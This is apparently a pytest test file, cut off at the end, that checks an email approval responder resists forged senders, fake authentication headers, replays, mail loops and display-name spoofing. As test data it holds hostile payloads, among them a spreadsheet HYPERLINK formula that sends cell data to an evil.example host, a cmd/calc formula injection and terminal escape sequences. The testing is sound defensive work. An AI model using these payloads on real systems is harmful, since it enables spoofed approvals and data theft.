"""Attacks on the responder, end to end: each must leave Halo untouched and stay silent.

Every test delivers a hostile (or, at the end, a genuine) message into a real Dovecot
mailbox, runs one real pass against the stand-in Halo and a real SMTP server, and then
checks the two things an attacker wants: a decision in Halo (a POST to
/api/ticketapproval, an approver's result changed) and an answer (backscatter to a
forged address, a mail loop). Each test documents one attack and why it fails.

Our receiving server is ``mx.test.example`` (``[security] trusted_authserv_id``); the
approvers of ticket 1234 are alice@ and bob@example.com (see ``tests/conftest.py``).
"""

from __future__ import annotations

import csv
import email
import io
import json
from collections.abc import Callable, Sequence
from pathlib import Path

import dkim
import pytest

from responder.commands.cli import main
from responder.trust.authenticity import DkimResult, verify_dkim
from responder.worker import PassResult
from tests import shapes
from tests.dkim_keys import new_dkim_key
from tests.harness import AUTHSERV, RESPONDER_ADDRESS, Harness, gmail_reply, reply, text_of

RECEIVED = "from mail.example.com (mail.example.com [192.0.2.10]) by mx.test.example"
APPROVAL_EMAIL = (
    f"From: Service Desk <{RESPONDER_ADDRESS}>\n"
    "Date: Sat, 28 Nov 2026 08:55:00 +0000\n"
    "Subject: Approval required [ID:1234]\n"
    "To: alice@example.com\n\n"
    'Alice, ticket [ID:1234] "New laptop for Dana" needs your approval.\n'
    "Reply to this email with APPROVE or REJECT as the first word of your reply.\n"
)


def on_top(raw: bytes, *fields: str) -> bytes:
    """``raw`` with header fields prepended, the way later hops add theirs."""
    return b"".join(f"{f}\r\n".encode() for f in fields) + raw


def results(value: str) -> str:
    return f"Authentication-Results: {AUTHSERV}; {value}"


def assert_untouched(harness: Harness, result: PassResult, outcome: str) -> None:
    """No decision in Halo, nobody answered, the message filed with ``outcome``."""
    assert [r.outcome for r in result.reports] == [outcome], result.reports
    assert harness.posts() == []
    assert harness.halo.count("POST", "/api/ticketapproval") == 0
    assert harness.halo.approver(1234, 1)["result"] is None
    assert harness.halo.approver(1234, 2)["result"] is None
    assert harness.answers() == []


# -- forged senders ---------------------------------------------------------------------


async def test_a_forged_from_without_any_authentication_is_quarantined(harness: Harness) -> None:
    """Anyone can type From: alice@example.com; nothing vouches for it here."""
    harness.deliver(
        on_top(
            gmail_reply("alice@example.com", 1234, "Approve", auth=None), f"Received: {RECEIVED}"
        )
    )

    result = await harness.once()

    assert_untouched(harness, result, "quarantined")
    assert "no Authentication-Results from a trusted server" in result.reports[0].reason
    assert len(harness.folder("Approvals/Quarantine")) == 1


async def test_a_forged_from_that_our_server_saw_fail_is_quarantined(harness: Harness) -> None:
    harness.deliver(gmail_reply("alice@example.com", 1234, "Approve", auth="fail"))

    result = await harness.once()

    assert_untouched(harness, result, "quarantined")
    assert "dmarc=fail example.com" in result.reports[0].reason


async def test_a_fake_pass_header_below_our_servers_fail_is_ignored(harness: Harness) -> None:
    """The forger writes our server's id with "pass"; our server's real "fail" sits above
    its Received: line, so the forgery is below our block and does not count."""
    forged = gmail_reply("alice@example.com", 1234, "Approve", auth="pass")
    raw = on_top(
        forged,
        results("dkim=fail header.d=example.com; dmarc=fail header.from=example.com"),
        f"Received: {RECEIVED}",
    )
    harness.deliver(raw)

    result = await harness.once()

    assert_untouched(harness, result, "quarantined")


async def test_a_fake_pass_header_right_under_our_servers_fail_is_ignored(
    harness: Harness,
) -> None:
    """Without a Received: between them the two touch; the topmost report still decides."""
    forged = gmail_reply("alice@example.com", 1234, "Approve", auth="pass")
    harness.deliver(
        on_top(
            forged, results("dkim=fail header.d=example.com; dmarc=fail header.from=example.com")
        )
    )

    result = await harness.once()

    assert_untouched(harness, result, "quarantined")


async def test_authentication_of_another_domain_does_not_vouch_for_the_from_domain(
    harness: Harness,
) -> None:
    """evil.example really signed this, and our server says so; but From: is example.com."""
    raw = gmail_reply("alice@example.com", 1234, "Approve", auth=None)
    harness.deliver(
        on_top(raw, results("dkim=pass header.d=evil.example; dmarc=pass header.from=evil.example"))
    )

    result = await harness.once()

    assert_untouched(harness, result, "quarantined")
    assert "no DMARC or aligned DKIM pass for example.com" in result.reports[0].reason


@pytest.mark.parametrize(
    ("header", "why"),
    [
        ("From: Alice <alice@example.com>, mallory@evil.example", "exactly one From:"),
        ('From: "alice@example.com" <mallory@example.com>', "display name contains"),
        ("Sender: mallory@evil.example", "Sender: header differs"),
    ],
)
async def test_suspicious_sender_headers_are_quarantined(
    harness: Harness, header: str, why: str
) -> None:
    """Tricks that make a mail client show one person while another is the sender."""
    raw = gmail_reply("alice@example.com", 1234, "Approve")
    if header.startswith("From:"):
        raw = raw.replace(b"From: alice@example.com", header.encode())
    else:
        raw = raw.replace(
            b"From: alice@example.com", f"From: alice@example.com\r\n{header}".encode()
        )
    harness.deliver(raw)

    result = await harness.once()

    assert_untouched(harness, result, "quarantined")
    assert why in result.reports[0].reason


# -- forwards -------------------------------------------------------------------------


def forward(sender: str, first: str, original_from: str, original: str) -> bytes:
    """A Gmail forward: the sender's own words, then the forwarded message."""
    body = (
        f"{first}\n\n"
        "---------- Forwarded message ---------\n"
        f"From: {original_from}\n"
        "Date: Sat, 28 Nov 2026 at 08:58\n"
        "Subject: Re: Approval required [ID:1234]\n"
        f"To: <{RESPONDER_ADDRESS}>\n\n"
        f"{original}\n"
    )
    return reply(sender, "Fwd: Re: Approval required [ID:1234]", body)


async def test_a_non_approver_forwarding_an_approvers_approval_is_not_an_approver(
    harness: Harness,
) -> None:
    """Dave (authenticated, not an approver) forwards Alice's "Approve" with his own on top.
    The sender is Dave, whatever the forwarded text says: he is told so, nothing is recorded."""
    harness.deliver(
        forward(
            "dave@example.com",
            "Approve",
            "Alice <alice@example.com>",
            "Approve\n\n> Ticket needs your approval.",
        )
    )

    result = await harness.once()

    assert [r.outcome for r in result.reports] == ["not-approver"]
    assert harness.posts() == []
    assert harness.halo.approver(1234, 1)["result"] is None
    [answer] = harness.answers()
    assert answer["To"] == "dave@example.com"
    assert "not an approver" in text_of(answer)
    [row] = harness.ledger_rows()
    assert (row["sender"], row["seq"], row["outcome"]) == ("dave@example.com", None, "not-approver")


async def test_a_non_approver_forwarding_without_a_word_of_his_own_decides_nothing(
    harness: Harness,
) -> None:
    """The decision word must be the forwarder's own; the forwarded "Approve" is not his."""
    harness.deliver(
        forward(
            "dave@example.com",
            "",
            "Alice <alice@example.com>",
            "Approve\n\n> Ticket needs your approval.",
        )
    )

    result = await harness.once()

    assert [r.outcome for r in result.reports] == ["no-decision"]
    assert harness.posts() == []
    assert [a["To"] for a in harness.answers()] == ["dave@example.com"]


async def test_an_approver_forwarding_the_approval_email_with_the_word_on_top_approves(
    harness: Harness,
) -> None:
    harness.deliver(
        forward(
            "alice@example.com", "APPROVE", f"Service Desk <{RESPONDER_ADDRESS}>", APPROVAL_EMAIL
        )
    )

    result = await harness.once()

    assert [r.outcome for r in result.reports] == ["approved"]
    assert harness.halo.approver(1234, 1)["result"] == 1
    assert [a["To"] for a in harness.answers()] == ["alice@example.com"]


# -- replays --------------------------------------------------------------------------


async def replayed(harness: Harness, original: bytes, copy: bytes) -> PassResult:
    """Process ``original``, reset the approval in Halo, then deliver ``copy``."""
    harness.deliver(original)
    first = await harness.once()
    assert [r.outcome for r in first.reports] == ["approved"]
    harness.halo.add_ticket(
        1234,
        "New laptop for Dana",
        [  # a new round: pending again
            {"emailaddress": "alice@example.com", "seq": 1, "actionnumber": 3},
            {"emailaddress": "bob@example.com", "seq": 2, "actionnumber": 3},
        ],
    )
    harness.halo.requests.clear()
    harness.sink.messages.clear()
    harness.deliver(copy)
    return await harness.once()


async def test_a_replayed_message_with_the_same_message_id_is_not_acted_on(
    harness: Harness,
) -> None:
    raw = gmail_reply("alice@example.com", 1234, "Approve")

    result = await replayed(harness, raw, raw)

    assert_untouched(harness, result, "duplicate")


async def test_a_replayed_message_with_a_changed_message_id_is_not_acted_on(
    harness: Harness,
) -> None:
    """Same sender, subject and text under a new Message-ID: the content hash knows it."""
    raw = gmail_reply("alice@example.com", 1234, "Approve", msgid="<one@example.com>")
    copy = raw.replace(b"<one@example.com>", b"<two@example.com>")

    result = await replayed(harness, raw, copy)

    assert_untouched(harness, result, "duplicate")
    assert "same content as <one@example.com>" in result.reports[0].reason


# -- machines -------------------------------------------------------------------------


@pytest.mark.parametrize(
    "header",
    [
        "Auto-Submitted: auto-replied",
        "Auto-Submitted: auto-generated",
        "X-Autoreply: yes",
        "X-Autorespond: Out of office",
        "Precedence: auto_reply",
        "Precedence: bulk",
        "List-Id: <approvers.example.com>",
    ],
)
async def test_an_auto_reply_containing_approve_is_ignored(harness: Harness, header: str) -> None:
    """An out-of-office that starts with "Approve..." is a machine's, not a decision."""
    harness.deliver(
        reply(
            "alice@example.com",
            "Automatic reply: Approval required [ID:1234]",
            "Approve requests will be handled when I am back on Monday.",
            extra_headers=header + "\n",
        )
    )

    result = await harness.once()

    assert_untouched(harness, result, "ignored")
    assert len(harness.folder("Approvals/Ignored")) == 1


def bounce(*, sender: str, return_path: str | None, report: bool) -> bytes:
    """A delivery failure quoting the approval email (whose text says APPROVE)."""
    quoted = APPROVAL_EMAIL.replace("\n", "\r\n")
    text = "Approve\r\n\r\nDelivery to the following recipient failed: dana@example.com\r\n"
    if report:
        body = (
            "--B\r\nContent-Type: text/plain\r\n\r\n"
            + text
            + "--B\r\nContent-Type: message/delivery-status\r\n\r\n"
            "Reporting-MTA: dns; mail.example.com\r\n\r\n"
            "Final-Recipient: rfc822; dana@example.com\r\nAction: failed\r\nStatus: 5.1.1\r\n"
            "\r\n--B\r\nContent-Type: message/rfc822\r\n\r\n" + quoted + "\r\n--B--\r\n"
        )
        content_type = 'multipart/report; report-type=delivery-status; boundary="B"'
    else:
        body = text + "\r\n> " + quoted.replace("\r\n", "\r\n> ")
        content_type = "text/plain"
    raw = reply(
        sender, "Undeliverable: Approval required [ID:1234]", body, content_type=content_type
    )
    return on_top(raw, f"Return-Path: {return_path}") if return_path is not None else raw


@pytest.mark.parametrize(
    ("sender", "return_path", "report"),
    [
        ("Mail Delivery System <MAILER-DAEMON@example.com>", "<>", True),  # all three
        ("postmaster@example.com", None, True),  # multipart/report alone
        ("alice@example.com", "<>", False),  # null return path alone
        ("MAILER-DAEMON@example.com", None, False),  # MAILER-DAEMON alone
    ],
    ids=["dsn", "multipart-report", "null-return-path", "mailer-daemon"],
)
async def test_a_bounce_quoting_the_approval_email_is_ignored(
    harness: Harness, sender: str, return_path: str | None, report: bool
) -> None:
    harness.deliver(bounce(sender=sender, return_path=return_path, report=report))

    result = await harness.once()

    assert_untouched(harness, result, "ignored")


# -- loops ----------------------------------------------------------------------------


async def test_a_message_from_the_responders_own_address_is_ignored(harness: Harness) -> None:
    """Even where that address is (wrongly) an approver, and authenticated."""
    harness.halo.add_ticket(
        1400,
        "Loop bait",
        [
            {"emailaddress": RESPONDER_ADDRESS, "seq": 1, "actionnumber": 1},
        ],
    )
    harness.deliver(reply(RESPONDER_ADDRESS, "Re: Approval required [ID:1400]", "Approve"))

    result = await harness.once()

    assert [r.outcome for r in result.reports] == ["ignored"]
    assert "responder's own address" in result.reports[0].reason
    assert harness.halo.approver(1400, 1)["result"] is None
    assert harness.posts() == [] and harness.answers() == []


@pytest.mark.parametrize("stripped", [(), ("X-Halo-Approval-Responder", "Auto-Submitted")])
async def test_our_own_confirmation_sent_back_is_ignored(
    harness: Harness, stripped: Sequence[str]
) -> None:
    """A mail loop returns our answer (perhaps with our marker headers dropped on the way)."""
    harness.deliver(gmail_reply("alice@example.com", 1234, "Approve"))
    await harness.once()
    [sent] = harness.sink.received()
    answer = email.message_from_bytes(sent.content)
    for name in stripped:
        del answer[name]
    harness.sink.messages.clear()
    harness.halo.requests.clear()
    harness.deliver(
        on_top(
            answer.as_bytes(),
            results("dkim=pass header.d=service.example; dmarc=pass header.from=service.example"),
        )
    )

    result = await harness.once()

    assert [r.outcome for r in result.reports] == ["ignored"]
    assert harness.posts() == [] and harness.answers() == []


async def test_a_storm_from_one_sender_stops_being_answered(harness: Harness) -> None:
    """A loop with a machine we cannot recognise, from a sender nobody authenticated
    (``policy = "off"``): answers stop at the hourly limit, no digest follows."""
    harness.overrides = {"security": {"answers_per_sender_per_hour": 3, "policy": "off"}}
    for n in range(5):
        harness.deliver(gmail_reply("dave@example.com", 1234, f"Approve {n}"))
    first = await harness.once()
    for n in range(5, 8):
        harness.deliver(gmail_reply("dave@example.com", 1234, f"Approve {n}"))
    second = await harness.once()

    outcomes = [r.outcome for r in first.reports + second.reports]
    assert outcomes == ["not-approver"] * 8
    assert len(harness.answers()) == 3
    assert harness.posts() == []
    assert harness.folder("INBOX") == []  # all filed, none left to retry


async def test_the_limit_is_per_sender(harness: Harness) -> None:
    harness.overrides = {"security": {"answers_per_sender_per_hour": 1, "policy": "off"}}
    for sender in ("dave@example.com", "dave@example.com", "erin@example.com"):
        harness.deliver(gmail_reply(sender, 1234, "Approve"))

    await harness.once()

    assert sorted(a["To"] for a in harness.answers()) == ["dave@example.com", "erin@example.com"]


# -- our own DKIM check, where the server adds no Authentication-Results -------------------


@pytest.fixture(scope="module")
def keys() -> tuple[bytes, bytes]:
    """A private key (PEM) and its DNS TXT record."""
    return new_dkim_key()


def signed(raw: bytes, domain: str, private: bytes) -> bytes:
    return bytes(dkim.sign(raw, b"sel", domain.encode(), private)) + raw


def verifier(records: dict[str, bytes]) -> Callable[[bytes], list[DkimResult]]:
    """Our own DKIM check, with DNS answered from ``records``."""

    def lookup(name: bytes, timeout: float = 5) -> bytes | None:
        return records.get(name.decode())

    return lambda raw: verify_dkim(raw, dnsfunc=lookup)


async def test_a_dkim_signed_reply_without_authentication_results_is_approved(
    harness: Harness, keys: tuple[bytes, bytes]
) -> None:
    private, record = keys
    unsigned = gmail_reply("alice@example.com", 1234, "Approve", auth=None)
    harness.deliver(signed(unsigned, "example.com", private))

    result = await harness.once(dkim_verifier=verifier({"sel._domainkey.example.com.": record}))

    assert [r.outcome for r in result.reports] == ["approved"]
    assert harness.halo.approver(1234, 1)["result"] == 1
    [row] = harness.ledger_rows()
    assert row["auth_verdict"] == "own DKIM check passed for example.com, aligned with example.com"


async def test_a_tampered_signed_reply_is_quarantined(
    harness: Harness, keys: tuple[bytes, bytes]
) -> None:
    """Alice signed "Reject"; someone on the way turned it into "Approve"."""
    private, record = keys
    genuine = signed(
        gmail_reply("alice@example.com", 1234, "Reject", auth=None), "example.com", private
    )
    harness.deliver(genuine.replace(b"\r\nReject\r\n", b"\r\nApprove\r\n"))

    result = await harness.once(dkim_verifier=verifier({"sel._domainkey.example.com.": record}))

    assert_untouched(harness, result, "quarantined")
    assert "own DKIM check found no aligned valid signature" in result.reports[0].reason


async def test_a_valid_signature_of_another_domain_is_quarantined(
    harness: Harness, keys: tuple[bytes, bytes]
) -> None:
    private, record = keys
    raw = signed(
        gmail_reply("alice@example.com", 1234, "Approve", auth=None), "evil.example", private
    )
    harness.deliver(raw)

    result = await harness.once(dkim_verifier=verifier({"sel._domainkey.evil.example.": record}))

    assert_untouched(harness, result, "quarantined")


# -- Microsoft 365 and Gmail, as they really stamp mail (tests/shapes.py) ---------------------

EXO = {"trusted_authserv_id": ["exchange-online"]}
EXO_INTERNAL = {**EXO, "exchange_internal": True, "internal_domains": ["example.com"]}
GOOGLE = {"trusted_authserv_id": ["mx.google.com"]}


def alice_signed(private: bytes, **kwargs: object) -> bytes:
    return shapes.signed(shapes.approval_reply(), "example.com", private, **kwargs)  # type: ignore[arg-type]


def assert_quarantined(harness: Harness, result: PassResult, why: str) -> None:
    assert_untouched(harness, result, "quarantined")
    assert why in result.reports[0].reason, result.reports[0].reason
    assert len(harness.folder("Approvals/Quarantine")) == 1


@pytest.mark.parametrize(
    "results", [shapes.EXO_PASS, shapes.EXO_PASS_STRAY, shapes.EXO_PASS_TWO_DKIM],
    ids=["pass", "stray-tokens", "two-dkim"],
)
async def test_exchange_online_external_pass_is_approved(
    harness: Harness, keys: tuple[bytes, bytes], results: str
) -> None:
    harness.overrides = {"security": EXO}
    harness.deliver(shapes.exo_external(alice_signed(keys[0]), results))

    result = await harness.once()

    assert [r.outcome for r in result.reports] == ["approved"]
    assert harness.halo.approver(1234, 1)["result"] == 1
    [row] = harness.ledger_rows()
    assert row["auth_verdict"] == "dmarc=pass for example.com (exchange-online)"


@pytest.mark.parametrize("stamp", [True, False], ids=["with-stamp", "without-stamp"])
async def test_exchange_online_internal_reply_is_approved_with_exchange_internal(
    harness: Harness, stamp: bool
) -> None:
    harness.overrides = {"security": EXO_INTERNAL}
    harness.deliver(shapes.exo_internal(shapes.approval_reply(), stamp=stamp))

    result = await harness.once()

    assert [r.outcome for r in result.reports] == ["approved"]
    assert harness.halo.approver(1234, 1)["result"] == 1
    assert [a["To"] for a in harness.answers()] == ["alice@example.com"]


async def test_exchange_online_internal_reply_is_quarantined_without_exchange_internal(
    harness: Harness,
) -> None:
    """Unprovable under the default: quarantined, and the reason says what to set."""
    harness.overrides = {"security": EXO}
    harness.deliver(shapes.exo_internal(shapes.approval_reply()))

    result = await harness.once()

    assert_quarantined(harness, result, "exchange_internal = true")


@pytest.mark.parametrize(
    ("results", "why"),
    [
        (shapes.EXO_FAIL, "dmarc=fail example.com"),
        (shapes.EXO_BESTGUESS, "bestguesspass means no DMARC record"),
        (shapes.EXO_ARC_OVERRIDE, "compauth=pass (recorded, not decisive)"),
        (shapes.EXO_UNREADABLE, "the topmost Authentication-Results is unreadable"),
    ],
    ids=["fail", "bestguesspass", "compauth-arc-override", "unreadable-topmost"],
)
async def test_exchange_online_forged_or_unproven_external_mail_is_quarantined(
    harness: Harness, results: str, why: str
) -> None:
    """Each carries the forger's own Exchange-shaped "pass" further down."""
    harness.overrides = {"security": EXO}
    forged = shapes.on_top(shapes.approval_reply(), f"Authentication-Results: {shapes.EXO_PASS}")
    harness.deliver(shapes.exo_external(forged, results))

    result = await harness.once()

    assert_quarantined(harness, result, why)


async def test_direct_send_with_the_tenants_own_domain_is_quarantined(harness: Harness) -> None:
    """Anonymous SMTP to the tenant's MX, From: an internal approver: AuthAs Anonymous."""
    harness.overrides = {"security": EXO_INTERNAL}
    harness.deliver(shapes.exo_external(shapes.approval_reply(), shapes.EXO_DIRECT_SEND))

    result = await harness.once()

    assert_quarantined(harness, result, "is 'Anonymous', not Internal")


async def test_a_smuggled_second_authas_header_is_quarantined(harness: Harness) -> None:
    harness.overrides = {"security": EXO_INTERNAL}
    harness.deliver(shapes.exo_internal(shapes.approval_reply(), auth_as=("Anonymous", "Internal")))

    result = await harness.once()

    assert_quarantined(harness, result, "2 X-MS-Exchange-Organization-AuthAs headers")


async def test_an_internal_stamp_on_a_foreign_from_domain_is_quarantined(
    harness: Harness,
) -> None:
    harness.overrides = {"security": {**EXO_INTERNAL, "internal_domains": ["service.example"]}}
    harness.deliver(shapes.exo_internal(shapes.approval_reply()))

    result = await harness.once()

    assert_quarantined(harness, result, "example.com is not one of [security] internal_domains")


async def test_gmail_pass_is_approved(harness: Harness, keys: tuple[bytes, bytes]) -> None:
    harness.overrides = {"security": GOOGLE}
    harness.deliver(shapes.gmail_delivered(alice_signed(keys[0]), shapes.gmail_results()))

    result = await harness.once()

    assert [r.outcome for r in result.reports] == ["approved"]
    assert harness.halo.approver(1234, 1)["result"] == 1


async def test_a_forged_google_pass_below_gmails_own_fail_is_quarantined(
    harness: Harness,
) -> None:
    harness.overrides = {"security": GOOGLE}
    forged = shapes.on_top(shapes.approval_reply(),
                           f"Authentication-Results: {shapes.gmail_results()}")
    real = shapes.gmail_results("none", "fail", "softfail")
    harness.deliver(shapes.gmail_delivered(forged, real))

    result = await harness.once()

    assert_quarantined(harness, result, "dmarc=fail example.com")


# -- a colleague approving as the boss: a display name that names the boss (issue 19) ---------
#
# Dave (dave@example.com, not an approver) really sends from example.com, so the
# receiving server's dmarc=pass header.from=example.com is genuine: it checked Dave's
# address. His display name decodes to Alice's address. The address is read from the
# header's structure, never from decoded text, and a name naming another address is
# quarantined: Halo is not asked, Alice gets no confirmation, Dave no answer.

DAVE = "dave@example.com"
BOSS_IN_THE_NAME = {
    # the issue's own example: "<alice@example.com> (" in Q encoding
    "q": "=?utf-8?q?=3Calice=40example=2Ecom=3E_=28?= <dave@example.com>",
    "b": "=?utf-8?b?PGFsaWNlQGV4YW1wbGUuY29tPiAo?= <dave@example.com>",
    "quoted": '"=?utf-8?q?=3Calice=40example=2Ecom=3E_=28?=" <dave@example.com>',
    "split": "=?utf-8?q?=3Calice=40exa?=\r\n =?utf-8?b?bXBsZS5jb20+ICg=?= <dave@example.com>",
    "mixed": "Alice Smith =?iso-8859-1?q?=3Calice=40example=2Ecom=3E?= via <dave@example.com>",
    "comma": "=?utf-8?q?Alice_=3Calice=40example=2Ecom=3E=2C?= <dave@example.com>",
    "full-width": "=?utf-8?q?=EF=BC=9Calice=EF=BC=A0example=2Ecom=EF=BC=9E?= <dave@example.com>",
    "bare": "=?utf-8?q?alice=40example=2Ecom?= <dave@example.com>",
    "comment": "dave@example.com (=?utf-8?q?Alice_=3Calice=40example=2Ecom=3E?=)",
}
NAME_WHY = {"comment": "the comment contains another address (alice@example.com)"}


def colleagues_reply(from_header: str, private: bytes) -> bytes:
    """Dave's "Approve" under ``from_header``, DKIM-signed by example.com (he is one of
    its users), answering Alice's approval email."""
    raw = shapes.approval_reply(sender=from_header, msgid=f"<{abs(hash(from_header))}@example.com>")
    return shapes.signed(raw, "example.com", private)


def as_stamped(raw: bytes, by: str) -> bytes:
    """``raw`` as Exchange Online or Gmail delivers it, with their genuine pass for Dave."""
    if by == "exchange-online":
        return shapes.exo_external(raw, shapes.EXO_PASS)
    return shapes.gmail_delivered(raw, shapes.gmail_results().replace("alice@", "dave@"))


def assert_boss_untouched(harness: Harness, result: PassResult, why: str) -> None:
    assert_quarantined(harness, result, why)
    assert harness.halo.count("POST", "/api/ticketapproval") == 0
    assert not [a for a in harness.answers() if "alice@example.com" in str(a["To"])]
    assert all(row["sender"] != "alice@example.com" for row in harness.ledger_rows())


@pytest.mark.parametrize("by", ["exchange-online", "mx.google.com"])
@pytest.mark.parametrize("form", list(BOSS_IN_THE_NAME))
async def test_a_display_name_naming_the_boss_is_quarantined(
    harness: Harness, keys: tuple[bytes, bytes], form: str, by: str
) -> None:
    private, record = keys
    harness.overrides = {"security": {"trusted_authserv_id": [by]}}
    raw = colleagues_reply(BOSS_IN_THE_NAME[form], private)
    harness.deliver(as_stamped(raw, by))

    result = await harness.once(dkim_verifier=verifier({"sel._domainkey.example.com.": record}))

    why = NAME_WHY.get(form, "the display name contains another address (alice@example.com)")
    assert_boss_untouched(harness, result, why)


def test_the_issues_own_message_through_responder_once(
    harness: Harness, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """The message as reported, through the command cron runs, with our MX's genuine
    dmarc=pass header.from=example.com for Dave's address."""
    config = harness.write_config(tmp_path / "config.toml")
    raw = gmail_reply(BOSS_IN_THE_NAME["q"], 1234, "Approve")
    harness.deliver(raw)

    assert main(["once", "--config", str(config), "--json"]) == 0

    [message] = json.loads(capsys.readouterr().out)["messages"]
    assert message["outcome"] == "quarantined"
    assert "another address (alice@example.com)" in message["reason"]
    assert harness.posts() == [] and harness.answers() == []
    assert harness.halo.approver(1234, 1)["result"] is None
    (tmp_path / "reported.eml").write_bytes(raw)  # explain, even without a config, says so
    assert main(["explain", str(tmp_path / "reported.eml")]) == 0
    assert capsys.readouterr().out.splitlines()[0] == (
        "would quarantine: suspicious headers: the display name contains another address"
        " (alice@example.com)")


@pytest.mark.parametrize(
    ("from_header", "why"),
    [
        ("Alice <alice@example.com>, <dave@example.com>", "exactly one From: address, found 2"),
        ("alice@example.com,dave@example.com", "exactly one From: address, found 2"),
        ("=?utf-8?q?alice=40example=2Ecom?=", "an encoded-word in the address"),
        ("<alice@example.com> <dave@example.com>", "two <addresses> in one mailbox"),
        ("Bosses: alice@example.com, dave@example.com;", "a group"),
    ],
    ids=["comma", "comma-bare", "encoded-address", "two-angles", "group"],
)
async def test_a_from_header_with_two_addresses_or_an_encoded_one_is_refused(
    harness: Harness, keys: tuple[bytes, bytes], from_header: str, why: str
) -> None:
    """Which of two addresses a server authenticated and a reader takes may differ."""
    private, record = keys
    harness.overrides = {"security": EXO}
    harness.deliver(as_stamped(colleagues_reply(from_header, private), "exchange-online"))

    result = await harness.once(dkim_verifier=verifier({"sel._domainkey.example.com.": record}))

    assert_boss_untouched(harness, result, why)


@pytest.mark.parametrize("by", ["exchange-online", "mx.google.com"])
@pytest.mark.parametrize(
    "from_header",
    [
        "=?utf-8?q?Alice_M=C3=BCller?= <alice@example.com>",
        "=?utf-8?b?TcO8bGxlciwgQWxpY2UgKEZpbmFuY2Up?= <alice@example.com>",
        '"alice@example.com" <alice@example.com>',
        "alice@example.com (Alice M=?utf-8?q?=C3=BC?=ller)",
    ],
    ids=["q-name", "b-name-comma-parenthesis", "own-address-as-name", "comment"],
)
async def test_the_real_approver_with_an_encoded_display_name_is_approved(
    harness: Harness, keys: tuple[bytes, bytes], from_header: str, by: str
) -> None:
    private, record = keys
    harness.overrides = {"security": {"trusted_authserv_id": [by]}}
    raw = shapes.signed(shapes.approval_reply(sender=from_header, msgid="<m1@example.com>"),
                        "example.com", private)
    harness.deliver(as_stamped(raw, by).replace(b"dave@", b"alice@"))

    result = await harness.once(dkim_verifier=verifier({"sel._domainkey.example.com.": record}))

    assert [r.outcome for r in result.reports] == ["approved"], result.reports
    assert harness.halo.approver(1234, 1)["result"] == 1
    assert [a["To"] for a in harness.answers()] == ["alice@example.com"]


# -- attacker text reaching the admin's tools (issue 19) -------------------------------------
#
# A subject is the sender's text. Encoded, it can carry escape sequences that retitle the
# terminal, clear it and write "all approved" where the admin looks; plain, a subject
# starting with = is a formula to the spreadsheet the audit export is opened in.

ESCAPES = ("=?utf-8?q?=1B]0;all_approved=07=1B[2J=1B[1;1H=E2=80=AERe:_Approval_required"
           "_[ID:1234]?=")
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Re: Approval required [ID:1234]")'


def test_escape_sequences_and_formulas_in_subjects_reach_the_admin_inert(
    harness: Harness, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    config = harness.write_config(tmp_path / "config.toml")
    for subject in (ESCAPES, FORMULA, "@SUM(1+1)*cmd|' /C calc'!A0 [ID:1234]"):
        harness.deliver(reply("dave@example.com", subject, "Approve"))
    main(["once", "--config", str(config)])
    ran = capsys.readouterr()

    assert main(["audit", "--config", str(config)]) == 0
    export = capsys.readouterr().out
    (tmp_path / "m.eml").write_bytes(reply("dave@example.com", ESCAPES, "Approve"))
    assert main(["explain", str(tmp_path / "m.eml")]) == 0
    explained = capsys.readouterr().out

    for text in (ran.out, ran.err, export, explained):
        assert not any(ch in text for ch in "\x1b\x07\u202e")
    subjects = sorted(row["subject"] for row in csv.DictReader(io.StringIO(export)))
    assert subjects[0].startswith("'=HYPERLINK(") and subjects[1].startswith("'@SUM(")
    assert subjects[2].startswith("\\x1b]0;all approved\\x07\\x1b[2J")
    assert "\\x1b]0;all approved\\x07\\x1b[2J\\x1b[1;1H\\u202eRe:" in explained
    assert harness.posts() == []


# -- the replay: Alice's genuinely signed "Approve" for 1234 sent again for 1300 -------------


async def replay_for_another_ticket(harness: Harness, record: bytes, genuine: bytes,
                                    replayed: bytes) -> PassResult:
    """Alice approves 1234 (her signed reply, checked by our own DKIM check); then the
    copy arrives dressed for ticket 1300, where Alice is a pending approver too."""
    check = verifier({"sel._domainkey.example.com.": record})
    harness.deliver(genuine)
    first = await harness.once(dkim_verifier=check)
    assert [r.outcome for r in first.reports] == ["approved"]
    harness.halo.requests.clear()
    harness.sink.messages.clear()
    harness.deliver(replayed)
    return await harness.once(dkim_verifier=check)


def assert_1300_untouched(harness: Harness, result: PassResult, why: str) -> None:
    assert [r.outcome for r in result.reports] == ["quarantined"]
    assert why in result.reports[0].reason, result.reports[0].reason
    assert harness.posts() == [] and harness.answers() == []
    assert harness.halo.approver(1300, 4)["result"] is None
    assert len(harness.folder("Approvals/Quarantine")) == 1


async def test_a_signed_approval_replayed_under_new_headers_is_quarantined(
    harness: Harness, keys: tuple[bytes, bytes]
) -> None:
    """New Subject/Date/Message-ID above the signed ones: the signature still verifies
    (DKIM checks the lowest of each), but a second Subject is refused before reading."""
    private, record = keys
    genuine = alice_signed(private)
    replayed = shapes.on_top(genuine, "Subject: Re: Approval required [ID:1300]",
                             "Date: Mon, 30 Nov 2026 10:00:00 +0000",
                             "Message-ID: <fresh-1300@example.com>")

    result = await replay_for_another_ticket(harness, record, genuine, replayed)

    assert_1300_untouched(harness, result, "more than one Subject, Date, Message-ID header")


async def test_a_signed_approval_with_a_replaced_unsigned_subject_is_quarantined(
    harness: Harness, keys: tuple[bytes, bytes]
) -> None:
    """Alice's signature leaves Subject out, so it survives a new one: such a signature
    proves nothing about the ticket (her genuine message would be quarantined too)."""
    private, record = keys
    genuine = alice_signed(private, headers=[b"from", b"to", b"date", b"message-id"])
    replayed = genuine.replace(b"[ID:1234]\r\nDate", b"[ID:1300]\r\nDate")
    harness.deliver(replayed)

    result = await harness.once(dkim_verifier=verifier({"sel._domainkey.example.com.": record}))

    assert_1300_untouched(harness, result, "does not cover Subject")


# -- reply-token binding ([security] require_token) ----------------------------------------


@pytest.fixture
def bound(harness: Harness) -> Harness:
    """Ticket 1500 whose approver entry carries Halo's token, and require_token on."""
    harness.halo.add_ticket(
        1500,
        "Server room access",
        [
            {
                "emailaddress": "alice@example.com",
                "seq": 1,
                "actionnumber": 2,
                "token": "7f3c2a9e-51d4-4b8e-9a0c-2d6e8f1b3c57",
            },
        ],
    )
    harness.overrides = {"security": {"require_token": True}}
    return harness


def token_reply(quoted: str) -> bytes:
    body = (
        "Approve\n\n"
